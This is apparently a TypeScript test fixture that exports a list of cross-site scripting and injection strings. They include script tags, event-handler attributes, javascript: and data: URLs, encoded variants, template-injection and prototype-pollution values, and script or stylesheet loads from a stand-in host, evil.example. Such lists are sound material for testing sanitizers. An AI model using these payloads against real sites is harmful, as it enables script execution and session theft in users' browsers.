/** Texts that would run a script if a page took them for markup, for an address of its own kind or for a style. */
export const injections: readonly string[] = [
  ...['<script>run()</script>', '<ScRiPt>run()</sCrIpT>', '<script src="https://evil.example/a.js"></script>'],
  ...['</script><script>run()</script>', '<script/x>run()</script>', '<<script>run();//<</script>'],
  ...['"><script>run()</script>', "'><script>run()</script>", '`><script>run()</script>', '--><script>run()</script>'],
  ...[']]><script>run()</script>', '</title><script>run()</script>', '</textarea><script>run()</script>'],
  ...['</style><script>run()</script>', '</p></div><script>run()</script>', '\\"><script>run()</script>'],
  ...[
    '<img src=x onerror=run()>',
    '<img src="x" onerror="run()">',
    '<img/src/onerror=run()>',
    '<IMG SRC=x OnError=run()>',
  ],
  ...['"><img src=x onerror=run()>', '<svg onload=run()>', '<svg/onload=run()>', '<svg><script>run()</script></svg>'],
  ...['<svg><animate onbegin=run() attributeName=x>', '<svg><a href="javascript:run()"><text y="9">x</text></a></svg>'],
  ...['<body onload=run()>', '<iframe src="javascript:run()">', '<iframe srcdoc="<script>run()</script>">'],
  ...['<object data="javascript:run()">', '<embed src="javascript:run()">', '<base href="https://evil.example/">'],
  ...['<a href="javascript:run()">x</a>', '<form action="javascript:run()"><button>x</button></form>'],
  ...[
    '<button formaction="javascript:run()">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:run()">',
  ],
  ...[
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<style>@import "https://evil.example/a.css"</style>',
  ],
  ...['<details open ontoggle=run()>', '<input autofocus onfocus=run()>', '<video><source onerror=run()></video>'],
  ...[
    '<math><mtext></form><form><mglyph><style></math><img src onerror=run()>',
    '<template><script>run()</script></template>',
  ],
  ...['" onclick="run()', "' onclick='run()", '" onmouseover=run() x="', '" autofocus onfocus="run()', 'x" style="x:1'],
  ...[
    '&lt;script&gt;run()&lt;/script&gt;',
    '&#60;script&#62;run()&#60;/script&#62;',
    '\u003cscript\u003erun()\u003c/script\u003e',
  ],
  ...['javascript:run()', 'JaVaScRiPt:run()', ' javascript:run()', 'java\tscript:run()', 'java\nscript:run()'],
  ...['javascript&colon;run()', 'javascript:/*--></title></style><svg/onload=run()>', 'vbscript:run()'],
  ...[
    'data:text/html,<script>run()</script>',
    'data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==',
    'blob:https://evil.example/1',
  ],
  ...[
    '//evil.example/a.png',
    '/\\evil.example/a.png',
    'https://evil.example\\@frames.example.com/',
    'https://frames.example.com@evil.example/',
  ],
  ...['/a.png" onerror="run()', 'https://frames.example.com/"><script>run()</script>', '/about?x=javascript:run()'],
  ...[
    '{{constructor.constructor("run()")()}}',
    '${run()}',
    '%3Cscript%3Erun()%3C/script%3E',
    '__proto__',
    'constructor',
  ],
]
